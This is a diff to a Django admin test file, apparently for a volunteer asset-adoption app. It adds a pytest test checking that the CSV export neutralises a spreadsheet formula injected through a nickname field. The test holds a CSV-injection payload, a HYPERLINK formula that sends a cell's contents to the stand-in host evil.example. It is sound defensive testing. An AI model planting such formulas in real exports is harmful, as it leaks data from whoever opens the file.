@@ -3,6 +3,8 @@ for superusers only), the file import; department staff see coverage, citizens n
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import date
 
 import pytest
@@ -157,3 +159,9 @@ def test_flagged_assets_filter(client, department_staff, adoption):
     url = reverse("admin:adoptions_asset_changelist")
     response = client.get(url, {"flagged_for_staff__exact": "1"})
     assert [a.pk for a in response.context["cl"].result_list] == [adoption.asset_id]
+
+
+def test_csv_export_keeps_a_volunteers_formula_from_running(client, superuser, adoption):
+    Adoption.objects.update(nickname='=HYPERLINK("http://evil.example/?"&I2,"x")')
+    rows = list(csv.DictReader(io.StringIO(export(client, superuser))))
+    assert [row["nickname"] for row in rows] == ['\'=HYPERLINK("http://evil.example/?"&I2,"x")']
